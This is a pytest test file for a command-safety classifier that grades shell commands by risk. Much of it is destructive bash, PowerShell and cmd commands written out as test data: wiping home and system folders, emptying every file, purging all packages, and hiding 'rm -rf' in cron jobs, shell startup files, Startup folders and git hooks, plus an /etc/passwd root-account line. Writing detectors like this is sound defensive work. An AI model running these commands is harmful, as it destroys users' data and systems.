# ruff: noqa: E501
"""f19: data flows, what a block writes, lists or stores and then acts on.

Family 1 (listing carriers): a listing's scope travels with its items through every carrier:
a file it was written to (`>`, `tee`, PowerShell `>`/Out-File/Set-Content, cmd `>`), a filter
that reads that file (`sort FILE`, `grep -v x FILE`), an array (`mapfile`/`readarray`), a
`$(< FILE)` substitution, GNU parallel's argument files (`::::`, `-a`), cmd's `for /f` over
`('type FILE')`, and PowerShell loops over a recursive listing's items (each item in turn is
every file of the tree). Deleting what the carrier holds is judged as deleting the listing.
Each family: bare, wrapped, across shells, and look-alikes that must stay low.
"""

from __future__ import annotations

import pytest

from tests.safety._levels import PS_BLOCK_WRAPPERS, B, C, D, M, S, level

LISTING_BLOCKED_BASH = [
    # tee keeps the listing flowing and writes it to its file
    "find ~ | tee /tmp/seen | xargs rm -rf",
    "find /etc -type f | tee /tmp/etc.lst >/dev/null; xargs -a /tmp/etc.lst rm -f",
    "sudo find / -mindepth 1 -maxdepth 1 | sudo tee /root/top >/dev/null\nsudo xargs rm -rf < /root/top",
    # a filter given the listing's file reads the listing
    "find $HOME -mindepth 1 > /tmp/h.lst; sort -u /tmp/h.lst | xargs rm -rf",
    "ls -A ~ > ~/.cache/l; grep -v '^keep$' ~/.cache/l | sed \"s|^|$HOME/|\" | xargs rm -rf",
    "find / -xdev > all.txt; tac all.txt | xargs -d '\\n' rm -rf",
    # arrays filled from the listing's file
    'find ~ -mindepth 1 -maxdepth 1 > /tmp/x; readarray -t items < /tmp/x; rm -rf -- "${items[@]}"',
    'find /usr -maxdepth 1 > l; mapfile -t L < l; for p in "${L[@]}"; do rm -rf "$p"; done',
    'mapfile -t tops < <(find / -mindepth 1 -maxdepth 1); rm -rf "${tops[@]}"',
    # $(< FILE)
    "find ~ -mindepth 1 > /tmp/k; rm -rf $(< /tmp/k)",
    'find /boot > b.lst; for f in $(<b.lst); do shred -u "$f"; done',
    # GNU parallel's argument files
    "find ~ -type f > /tmp/all; parallel -j8 shred -u :::: /tmp/all",
    "find /var/lib -mindepth 1 > v.txt; parallel --arg-file v.txt rm -rf",
    "find / -type f > /tmp/all; parallel -a /tmp/all 'rm -f {}'",
    # locate/du/tree list every path below their root: read one by one, quoted
    "locate '*' | while IFS= read -r p; do rm -f \"$p\"; done",
    "locate -r '^/' > /tmp/db; while read -r p; do shred -u \"$p\"; done < /tmp/db",
    # wrappers
    "sh -c 'find ~ > /tmp/q; sort /tmp/q | xargs rm -rf'",
    'f() { find ~ -mindepth 1 > /tmp/q; mapfile -t a < /tmp/q; rm -rf "${a[@]}"; }; f',
    "(find /etc > /tmp/q; timeout 60 parallel rm -rf :::: /tmp/q)",
]

LISTING_BLOCKED_PS = [
    # a recursive listing's items, one by one, are every file of the tree
    "foreach ($i in Get-ChildItem C:\\Windows -Recurse) { Remove-Item $i -Force }",
    "foreach ($i in (gci $env:SystemRoot -r)) { Remove-Item $i.FullName -Force -EA 0 }",
    "Get-ChildItem C:\\ -Recurse -Force | ForEach-Object { Remove-Item $_.FullName -Force }",
    "gci $env:windir -Recurse -File | % { ri $_ -Force }",
    "$all = Get-ChildItem C:\\ -Recurse; Remove-Item $all -Force",
    # a listing redirected with `>` to a file, read back
    "Get-ChildItem C:\\ -Recurse | Select-Object -ExpandProperty FullName > all.txt; Get-Content all.txt | Remove-Item -Force",
    "gci $env:windir -Recurse | select -Expand FullName > w.lst; gc w.lst | % { Remove-Item $_ -Force }",
    "ls C:\\Windows -Recurse | Select -Expand FullName > w.lst; $w = Get-Content w.lst; Remove-Item $w -Force",
    "Get-ChildItem C:\\Windows -Recurse | Out-File w.lst; foreach ($x in Get-Content w.lst) { Remove-Item $x -Force }",
    "(Get-ChildItem $env:windir -Recurse).FullName | Set-Content w.lst; Get-Content w.lst | % { Remove-Item $_ -Force }",
]

LISTING_BLOCKED_CMD = [
    'dir /s /b C:\\Windows > w.lst & for /f "delims=" %x in (\'type w.lst\') do del /f /q "%x"',
    'dir /b /s %USERPROFILE% > u.lst\nfor /f "usebackq delims=" %x in (`type u.lst`) do rd /s /q "%x"',
    'dir /s /b C:\\ > all.lst & for /f "delims=" %x in (\'more all.lst\') do del /q "%x"',
    "cmd /c \"dir /b /s C:\\Users > u.lst & for /f %x in ('type u.lst') do del /q %x\"",
]

LISTING_LOW = [
    # a named subset stays a clean-up
    ("bash", "find ~ -name '*.pyc' > /tmp/pyc; sort /tmp/pyc | xargs rm -f", D),
    ("bash", 'find ./dist > /tmp/d; mapfile -t a < /tmp/d; rm -rf "${a[@]}"', D),
    ("bash", "find ./tmp -type f > t; parallel rm -f :::: t", D),
    ("bash", 'du -a ./logs | cut -f2 | while read f; do rm -f "$f"; done', D),
    ("powershell", "foreach ($i in Get-ChildItem .\\build -Recurse) { Remove-Item $i -Force }", D),
    ("powershell", "$b = Get-ChildItem .\\out -Recurse; Remove-Item $b -Force", D),
    ("cmd", "dir /b *.bak > b.lst & for /f %x in ('type b.lst') do del /q \"%x\"", D),
    # the listing only read, counted, printed or searched
    ("bash", "find ~ | tee /tmp/seen | wc -l", M),
    ("bash", "find ~ -mindepth 1 > /tmp/x; readarray -t a < /tmp/x; printf '%s\\n' \"${a[@]}\"", M),
    ("bash", "find / -type f > /tmp/all; parallel -a /tmp/all echo", M),
    ("bash", "find ~ > /tmp/k; sort /tmp/k | head", M),
    ("bash", "locate '*' | while read -r p; do echo \"$p\"; done", S),
    ("bash", "rg --files src | xargs wc -l", S),
    (
        "powershell",
        "foreach ($i in Get-ChildItem C:\\Windows -Recurse) { Write-Output $i.FullName }",
        S,
    ),
    (
        "powershell",
        "Get-ChildItem C:\\ -Recurse | Select -Expand FullName > all.txt; Get-Content all.txt | Measure-Object",
        M,
    ),
    ("cmd", "dir /b /s C:\\ > l.lst & for /f %x in ('type l.lst') do echo %x", M),
    # not a recursive listing: each entry without -Recurse is as before (critical)
    ("powershell", "foreach ($i in Get-ChildItem C:\\Windows) { Remove-Item $i -Force }", C),
]


@pytest.mark.parametrize("command", LISTING_BLOCKED_BASH)
def test_listing_carrier_bash_blocked(command: str) -> None:
    assert level(command) == B, command


@pytest.mark.parametrize("command", LISTING_BLOCKED_PS)
def test_listing_carrier_powershell_blocked(command: str) -> None:
    assert level(command, "powershell") == B, command


@pytest.mark.parametrize("wrapper", PS_BLOCK_WRAPPERS)
def test_listing_carrier_powershell_wrapped(wrapper: str) -> None:
    command = wrapper.format(LISTING_BLOCKED_PS[0])
    assert level(command, "powershell") == B, command


@pytest.mark.parametrize("command", LISTING_BLOCKED_CMD)
def test_listing_carrier_cmd_blocked(command: str) -> None:
    assert level(command, "cmd") == B, command


@pytest.mark.parametrize(("shell", "command", "expected"), LISTING_LOW)
def test_listing_carrier_look_alikes(shell: str, command: str, expected: object) -> None:
    assert level(command, shell) == expected, command


# Family 2 (every file emptied): an emptier (truncate, `cp /dev/null`, `: >`, Clear-Content,
# Set-Content piped, cmd's `type nul >`/`copy nul`) handed a glob, a listing's items or a
# loop's item that stands for a home, the root, a system folder or the working directory
# destroys every file's content: blocked, like the wipe. Log folders stay the log wipe.
EMPTIED_BLOCKED = [
    ("bash", "find $HOME -type f -print0 | xargs -0 -r truncate -s 0"),
    ("bash", 'for x in $(find / -xdev -type f); do cp /dev/null "$x"; done'),
    ("bash", 'for x in ~/.config/* ~/*; do truncate --size=0 "$x"; done'),
    ("bash", "cp /dev/null ~/*"),
    ("bash", "sudo truncate -s 0 /usr/lib/*"),
    ("bash", "cd /srv && truncate -s0 *"),
    ("bash", "find ~ -type f > /tmp/f; xargs -a /tmp/f truncate -s0"),
    ("bash", "sh -c 'for x in /usr/lib/*; do truncate -s 0 \"$x\"; done'"),
    ("powershell", "Get-ChildItem $HOME -File -Recurse | Clear-Content -Force"),
    ("powershell", "gci C:\\Users -r -File | Clear-Content"),
    ("powershell", "Clear-Content -Path $env:USERPROFILE\\* -Force"),
    ("powershell", "Get-ChildItem ~ -Recurse -File | Set-Content -Value ''"),
    ("powershell", "& { Get-ChildItem C:\\ProgramData -Recurse -File | Clear-Content }"),
    ("cmd", 'for /r %USERPROFILE% %x in (*.*) do type nul > "%x"'),
    ("cmd", 'for /r C:\\ %x in (*) do copy /y nul "%x" >nul'),
    ("cmd", 'for /r "C:\\Program Files" %x in (*) do break > "%x"'),
    ("cmd", 'cmd /c for /r C:\\Users %x in (*) do type nul ^> "%x"'),
    ("cmd", 'if exist C:\\Users for /r C:\\Users %x in (*) do type nul > "%x"'),
]

EMPTIED_LOW = [
    ("bash", "truncate -s 0 build/*.o", D),
    ("bash", 'for x in ./logs/*.log; do cp /dev/null "$x"; done', D),
    ("bash", "truncate -s0 /var/log/*", C),
    ("bash", "find /var/log -type f | xargs truncate -s0", C),
    ("bash", "truncate -s 0 -c ~/notes.txt", D),
    ("bash", "find ~ -type f -print0 | xargs -0 wc -c", S),
    ("powershell", "Get-ChildItem .\\out -File | Clear-Content", D),
    ("powershell", "Get-ChildItem C:\\Windows\\Logs -Recurse -File | Clear-Content", C),
    ("powershell", "Get-Item C:\\Windows\\System32\\drivers\\etc\\hosts | Clear-Content", C),
    ("powershell", "Get-ChildItem ~ -Recurse -File | Set-Content inventory.txt", M),
    ("powershell", "Clear-Content .\\app.log", D),
    ("powershell", "Get-ChildItem C:\\Windows -Recurse | Set-Content inventory.txt", M),
    ("powershell", "(Get-ChildItem C:\\Windows -Recurse).FullName | Out-File inventory.txt", M),
    ("cmd", 'for /r . %x in (*.tmp) do type nul > "%x"', D),
    ("cmd", 'for /r C:\\Windows\\Logs %x in (*) do type nul > "%x"', C),
    ("cmd", "for /r %USERPROFILE% %x in (*) do echo %x >> files.txt", M),
    ("cmd", "copy nul empty.txt", M),
]


@pytest.mark.parametrize(("shell", "command"), EMPTIED_BLOCKED)
def test_every_file_emptied_blocked(shell: str, command: str) -> None:
    assert level(command, shell) == B, command


@pytest.mark.parametrize(("shell", "command", "expected"), EMPTIED_LOW)
def test_every_file_emptied_look_alikes(shell: str, command: str, expected: object) -> None:
    assert level(command, shell) == expected, command


# Family 3 (untracked writers): a file written by a tool the written-file table did not know
# (cp/install from /dev/stdin, dd of=, sponge, an interpreter's inline code) holds known text;
# running it (`bash F`, `./F` even when named like a program, `at -f F`, `$(cat F)`, `$(< F)`,
# `scp -S ./F`, `Start-Job -FilePath F`) runs that text.
WRITTEN_RUN_BLOCKED = [
    (
        "bash",
        "cp /dev/stdin /tmp/job.sh <<'EOS'\nrm -rf --no-preserve-root /\nEOS\nbash /tmp/job.sh",
    ),
    ("bash", "printf 'rm -rf ~\\n' | install -m 0755 /dev/stdin ~/bin/cleanup && ~/bin/cleanup"),
    ("bash", "dd of=./fix.sh status=none <<< 'rm -rf /etc'; sh ./fix.sh"),
    ("bash", "echo 'rm -rf \"$HOME\"' | sponge go.sh && . ./go.sh"),
    ("bash", "cp /dev/fd/0 x.sh <<< 'rm -rf /usr'; sudo bash x.sh"),
    ("bash", 'python3 -c \'open("x.sh", "w").write("rm -rf /var/lib\\n")\' && sh x.sh'),
    (
        "bash",
        "python -c \"from pathlib import Path; Path('k.sh').write_text('rm -rf ~')\"; bash k.sh",
    ),
    ("bash", 'node -e \'require("fs").writeFileSync("k.sh", "rm -rf ~")\' && zsh k.sh'),
    ("bash", 'perl -e \'open(my $o, ">", "k.sh"); print $o "rm -rf /boot\\n"\' ; source k.sh'),
    ("bash", 'ruby -e \'File.write("k.sh", "rm -rf ~/")\'; bash < k.sh'),
    ("bash", "echo 'rm -rf ~' > w; chmod +x w; ./w"),
    ("bash", "echo 'rm -rf /' > top; chmod 755 top; ./top -b"),
    ("bash", "echo 'rm -rf /' > job.sh; at -f job.sh now + 5 minutes"),
    ("bash", "echo 'rm -rf ~' > s.sh; sh -c \"$(cat s.sh)\""),
    ("bash", "echo 'rm -rf ~' > s.sh; eval \"$(< s.sh)\""),
    ("bash", "printf '#!/bin/sh\\nrm -rf ~\\n' > p; chmod +x p; scp -S ./p notes.txt h:"),
    ("bash", "scp -S 'rm -rf ~' a h:b"),
    (
        "powershell",
        "Set-Content j.ps1 'Remove-Item $env:USERPROFILE -Recurse -Force'; Start-Job -FilePath .\\j.ps1",
    ),
    (
        "powershell",
        "'Remove-Item C:\\Windows -Recurse -Force' | Out-File j.ps1; Invoke-Command -FilePath .\\j.ps1 -ComputerName srv1",
    ),
]

WRITTEN_RUN_LOW = [
    ("bash", "cp /dev/stdin /tmp/job.sh <<'EOS'\nrm -rf ~\nEOS\ncat /tmp/job.sh", M),
    ("bash", "cp /dev/stdin job.sh <<< 'echo hello'; bash job.sh", M),
    ("bash", "dd of=./fix.sh <<< 'rm -rf ./build'; sh ./fix.sh", D),
    ("bash", 'python3 -c \'open("x.sh", "w").write("echo hi\\n")\' && sh x.sh', M),
    ("bash", 'python3 -c \'open("notes.txt", "w").write("rm -rf ~")\'; cat notes.txt', M),
    ("bash", 'node -e \'require("fs").writeFileSync("k.sh", "rm -rf ~")\' && bash -n k.sh', M),
    ("bash", "echo 'uptime' > w; chmod +x w; ./w", M),
    ("bash", "echo 'echo hi' > job.sh; at -f job.sh now", C),
    ("bash", "scp -S /usr/bin/ssh notes.txt h:", C),
    ("powershell", "Set-Content j.ps1 'Get-Date'; Start-Job -FilePath .\\j.ps1", M),
]


@pytest.mark.parametrize(("shell", "command"), WRITTEN_RUN_BLOCKED)
def test_untracked_writer_then_run_blocked(shell: str, command: str) -> None:
    assert level(command, shell) == B, command


@pytest.mark.parametrize(("shell", "command", "expected"), WRITTEN_RUN_LOW)
def test_untracked_writer_look_alikes(shell: str, command: str, expected: object) -> None:
    assert level(command, shell) == expected, command


# Family 4 (brace- and array-built targets): sequence expressions expand like brace lists
# (`{1..9}`, `{a..e}`; one longer than 32 items stands for every such name), array elements
# are brace-expanded, `arr=()` is a known empty array that `arr+=(…)` and `arr[k]=…` extend.
BUILT_BLOCKED = [
    "rm -rf /mnt/backup{1..9}",
    "sudo rm -rf /srv/backup/{001..365}",
    "shred -n1 /dev/sd{a..b}",
    "chmod -R 000 /{u..v}sr",
    'dirs=({/usr,/var}/lib); rm -rf "${dirs[@]}"',
    "t=(/{boot,etc}); sudo rm -rf ${t[*]}",
    't=(); t+=(/tmp/old); t+=(/etc); rm -rf "${t[@]}"',
    't=(/tmp/old); t[1]=/usr; rm -rf "${t[@]}"',
    "bash -c 'rm -rf /mnt/backup{1..4}'",
    'f() { local -a x=(/{etc,var}); rm -rf "${x[@]}"; }; f',
    "for d in {etc,usr,var}; do rm -rf /$d; done",
    "for n in {1..3}; do sudo rm -rf /mnt/backup$n; done",
    'for d in /{etc,usr,var,boot,lib,opt}; do rm -rf "$d"; done',
]

BUILT_LOW = [
    ("rm -rf build{1..3}", D),
    ("rm -rf ./out/{1..500}", D),
    ('rm -rf "/mnt/backup{1..9}"', D),  # quoted: one odd name, not a sequence
    ("mkdir -p /mnt/backup{1..9}", M),
    ("ls -d /mnt/backup{1..9}", S),
    ("echo {1..9}", S),
    ("for i in {1..5}; do echo $i; done", S),
    ('t=(); t+=(./a); t+=(./b); rm -rf "${t[@]}"', D),
    ("t=(/usr /etc); printf '%s\\n' \"${t[@]}\"", S),
    ("for n in {1..3}; do rm -rf ./build$n; done", D),
    ("for d in {etc,usr}; do ls /$d; done", S),
]


@pytest.mark.parametrize("command", BUILT_BLOCKED)
def test_built_targets_blocked(command: str) -> None:
    assert level(command) == B, command


@pytest.mark.parametrize(("command", "expected"), BUILT_LOW)
def test_built_targets_look_alikes(command: str, expected: object) -> None:
    assert level(command) == expected, command


# Family 5 (package managers): every installed package removed (a match-all pattern, or the
# manager's own listing fed back: `$(pacman -Qq)`, `rpm -qa | xargs rpm -e`, `<(pip freeze)`)
# is blocked for the system's manager and dangerous for a user's; an essential package (libc,
# systemd, busybox, the running kernel) removed is blocked with or without override flags.
PACKAGES = [
    ("sudo pacman -Rsc --noconfirm $(pacman -Qqn)", B),
    ("pacman -Qqe | sudo pacman -Rdd -", B),
    ("rpm -qa | sudo xargs rpm -e --nodeps", B),
    ("dpkg --get-selections | cut -f1 | xargs sudo apt-get -y purge", B),
    ("dpkg-query -W -f='${Package}\\n' | xargs apt-get remove -y", B),
    ("sudo apt-get -y purge '?installed'", B),
    ("dnf -y erase '*'", B),
    ("apk info | xargs apk del --force-broken-world", B),
    ("sudo apk del busybox", C),  # (sudo; apk refuses what alpine-base needs)
    (
        "sudo apt-get remove --yes systemd",
        C,
    ),  # (sudo; apt refuses it without --allow-remove-essential)
    ("apt-get remove --yes --allow-remove-essential systemd", B),
    ("yum -y erase glibc-common", M),  # (yum refuses its own protected packages)
    ("rpm -e --nodeps glibc-common", B),
    ("sudo apt-get purge -y linux-image-$(uname -r)", B),
    ("pacman -Rns --noconfirm linux", B),
    ("xbps-remove -Ry glibc", M),  # (xbps refuses what others depend on; -F forces)
    ("xbps-remove -F glibc", B),
    ("brew list --formula | xargs brew uninstall --force", D),
    ("pip3 uninstall -y -r <(pip3 freeze)", D),
    ("pip list --format=freeze | cut -d= -f1 | xargs pip uninstall -y", D),
    ("choco uninstall all --yes", D),
    # look-alikes
    ("pacman -Qdtq | sudo pacman -Rns -", C),  # (orphans only; sudo is critical)
    ("pacman -Qdtq | pacman -Rns -", M),
    ("rpm -qa | grep -i java | xargs rpm -e", M),
    ("apt-get remove -y linux-image-5.15.0-50-generic", M),
    ("dnf remove -y kernel-5.14.0-70.el9", M),
    ("apt autoremove -y", M),
    ("apt-get -s purge '.*'", S),
    ("dnf remove --assumeno systemd", S),
    ("pip freeze > requirements.txt", M),
    ("rpm -qa | wc -l", S),
    ("pip uninstall -y requests", M),
]


@pytest.mark.parametrize(("command", "expected"), PACKAGES)
def test_package_removal(command: str, expected: object) -> None:
    assert level(command) == expected, command


def test_package_removal_from_cmd_and_powershell() -> None:
    assert level("choco uninstall all -y", "cmd") == D
    assert level("choco uninstall all -y", "powershell") == D
    assert level("choco uninstall git -y", "cmd") == M


# Persistence doors written as FILES with a readable blocked body (the lead's session-19 note):
# startup files of every shell, $PROFILE, cron files, systemd units, autostart entries, the
# Windows Startup folder. Each door's reader (cron line without its time fields, a unit's Exec
# lines, a .desktop Exec) gives the text it will run; blocked text makes the write blocked, as
# `crontab -` fed the same line already was. Benign or merely dangerous bodies stay critical.
PERSISTED = [
    ("bash", "echo 'rm -rf --no-preserve-root /' >> ~/.zprofile", B),
    ("bash", "printf '%s\\n' 'rm -rf \"$HOME\"' >> ~/.bash_profile", B),
    ("bash", "cat >> ~/.bashrc <<'EOS'\nalias ll='ls -l'\nrm -rf ~\nEOS", B),
    ("bash", "echo 'rm -rf ~' | tee -a ~/.zshrc >/dev/null", B),
    ("bash", "echo '@reboot root rm -rf /' | sudo tee /etc/cron.d/cleanup", B),
    ("bash", "echo '0 * * * * root mkfs.ext4 /dev/sda' >> /etc/crontab", B),
    (
        "bash",
        "printf '[Service]\\nExecStart=/bin/sh -c \"rm -rf /\"\\n' > ~/.config/systemd/user/x.service",
        B,
    ),
    ("bash", "sudo sh -c \"echo 'rm -rf /' >> /etc/rc.local\"", B),
    ("powershell", "Add-Content -Path $PROFILE -Value 'Remove-Item $HOME -Recurse -Force'", B),
    (
        "powershell",
        "Set-Content $PROFILE.CurrentUserAllHosts 'Remove-Item C:\\Windows -Recurse -Force'",
        B,
    ),
    (
        "cmd",
        'echo rd /s /q %USERPROFILE% > "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat"',
        B,
    ),
    # look-alikes: the door is still persistence (critical), the file is not a door (moderate)
    ("bash", "echo 'export EDITOR=vim' >> ~/.bashrc", C),
    ("bash", "echo 'rm -rf ~/.cache/thumbnails' >> ~/.bash_logout", C),
    ("bash", "echo '# never run rm -rf ~' >> ~/.bashrc", C),
    ("bash", "echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup", C),
    ("bash", "echo 'rm -rf ~' > ~/notes.txt", M),
    ("powershell", "Add-Content $PROFILE 'Set-Alias ll Get-ChildItem'", C),
    (
        "cmd",
        'echo start notepad > "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\n.bat"',
        C,
    ),
]


@pytest.mark.parametrize(("shell", "command", "expected"), PERSISTED)
def test_persisted_body(shell: str, command: str, expected: object) -> None:
    assert level(command, shell) == expected, command


# Family 6 (editors and typesetters running code): Emacs Lisp forms that only spell a path
# (`(expand-file-name "~")`, `(getenv "HOME")`) are read as that path; a TeX document the
# block wrote is read when TeX runs it with --shell-escape (its \write18 and \directlua).
TYPESET = [
    ("emacs --batch --eval '(delete-directory (expand-file-name \"~/\") t)'", B),
    ("emacs -Q --batch --eval '(delete-directory (getenv \"HOME\") t)'", B),
    ("emacs --batch --eval '(delete-directory (file-truename \"/usr\") t)'", B),
    (
        "cat > r.tex <<'EOS'\n\\documentclass{article}\\begin{document}\n"
        "\\immediate\\write18{rm -rf $HOME}\n\\end{document}\nEOS\nxelatex -shell-escape r.tex",
        B,
    ),
    (
        "printf '%s\\n' '\\directlua{os.execute(\"rm -rf /\")}' '\\bye' > x.tex && luatex --shell-escape x.tex",
        B,
    ),
    ("echo '\\immediate\\write18{rm -rf ~}' > y.tex; latexmk -pdf -shell-escape y", B),
    # look-alikes
    ("emacs --batch --eval '(message (expand-file-name \"~\"))'", M),
    (
        "cat > r.tex <<'EOS'\n\\immediate\\write18{date > stamp.txt}\n\\bye\nEOS\npdflatex -shell-escape r.tex",
        M,
    ),
    ("pdflatex -shell-escape paper.tex", C),  # (a document the analyser cannot read)
    ("cat > r.tex <<'EOS'\n\\write18{rm -rf ~}\n\\bye\nEOS\npdflatex r.tex", M),  # (no escape)
]


@pytest.mark.parametrize(("command", "expected"), TYPESET)
def test_editors_and_typesetters(command: str, expected: object) -> None:
    assert level(command) == expected, command


# Family 7 (Windows): C#/VB compiled by Add-Type (or csc/vbc, MSBuild inline tasks) that
# loops over a folder's entries and deletes each (`foreach (var d in
# Directory.GetDirectories(@"C:\Users")) Directory.Delete(d, true)`) deletes the folder's
# contents.
def test_dotnet_loop_over_a_folder_deletes_its_entries() -> None:
    source = (
        "using System.IO; public class W { public static void Go() { foreach (var d in"
        ' Directory.GetDirectories(@"C:\\Users")) Directory.Delete(d, true); } }'
    )
    assert level(f"Add-Type '{source}'; [W]::Go()", "powershell") == B
    assert level(f"Add-Type '{source}'", "powershell") == M  # (compiled, never called)
    benign = source.replace("Directory.Delete(d, true)", "System.Console.WriteLine(d)")
    assert level(f"Add-Type '{benign}'; [W]::Go()", "powershell") == M
    scoped = source.replace("C:\\Users", "C:\\build\\out")
    assert level(f"Add-Type '{scoped}'; [W]::Go()", "powershell") == D


# A redirect the grammar hangs on a whole list (`cd X && : > f`) is the last command's: its
# target is judged in the directory the list's `cd`s reached (red team probe17c F3).
LIST_CWD = [
    ("cd /etc && : > shadow", B),
    ("cd /etc && echo 'root::0:0::/root:/bin/sh' >> passwd", C),  # (as >> /etc/passwd)
    ("cd /etc/cron.d && echo '* * * * * root rm -rf /' > wipe", B),
    ("cd /etc/cron.d && echo '*/5 * * * * root /usr/local/bin/job' > job", C),
    ("cd ~ && echo 'rm -rf ~' >> .zshrc", B),
    ("cd /tmp && : > shadow", M),
    ("cd /etc; cd /tmp && : > passwd", M),
]


@pytest.mark.parametrize(("command", "expected"), LIST_CWD)
def test_list_redirect_in_the_lists_cwd(command: str, expected: object) -> None:
    assert level(command) == expected, command


# A git hook written by any file writer is persistence (critical); with a readable blocked
# body, blocked (red team probe17c F4; HELPERS: git hooks executed later are persistence).
GIT_HOOKS = [
    ("bash", "cp ~/Downloads/hook.sh .git/hooks/pre-commit", C),
    ("bash", "install -m 0755 tools/hook .git/hooks/pre-push", C),
    ("bash", "mv /tmp/h .git/hooks/post-merge", C),
    ("bash", "curl -fsSL -o .git/hooks/pre-commit https://x.example/hook", C),
    ("bash", "cd .git/hooks && cp /tmp/h post-checkout", C),
    ("bash", "echo 'rm -rf ~' > .git/hooks/post-checkout", B),
    ("powershell", "Copy-Item .\\hook.ps1 .git\\hooks\\pre-commit", C),
    ("cmd", "copy hook.bat .git\\hooks\\pre-commit", C),
    ("bash", "cp .git/hooks/pre-commit.sample /tmp/x", M),
    ("bash", "cat .git/hooks/pre-commit", S),
    ("bash", "ls -la .git/hooks", S),
]


@pytest.mark.parametrize(("shell", "command", "expected"), GIT_HOOKS)
def test_git_hook_written(shell: str, command: str, expected: object) -> None:
    assert level(command, shell) == expected, command
